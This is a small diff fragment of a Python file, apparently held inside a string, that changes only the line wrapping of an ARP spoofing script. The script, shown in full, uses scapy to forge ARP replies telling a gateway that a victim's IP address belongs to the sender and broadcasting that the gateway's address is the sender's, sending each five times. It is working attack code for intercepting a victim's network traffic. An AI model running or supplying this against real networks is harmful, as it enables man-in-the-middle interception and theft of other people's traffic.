@@ -118,7 +118,8 @@ import sys
 from scapy.all import ARP, Ether, sendp
 me, victim_ip, gw_ip, gw_mac = sys.argv[1:5]
 claims = [Ether(src=me, dst=gw_mac) / ARP(op=2, hwsrc=me, psrc=victim_ip, hwdst=gw_mac, pdst=gw_ip),
-          Ether(src=me, dst="ff:ff:ff:ff:ff:ff") / ARP(op=2, hwsrc=me, psrc=gw_ip, hwdst="ff:ff:ff:ff:ff:ff", pdst=gw_ip)]
+          Ether(src=me, dst="ff:ff:ff:ff:ff:ff")
+          / ARP(op=2, hwsrc=me, psrc=gw_ip, hwdst="ff:ff:ff:ff:ff:ff", pdst=gw_ip)]
 sendp(claims, iface="eth0", count=5, inter=0.05, verbose=False)
 """
 
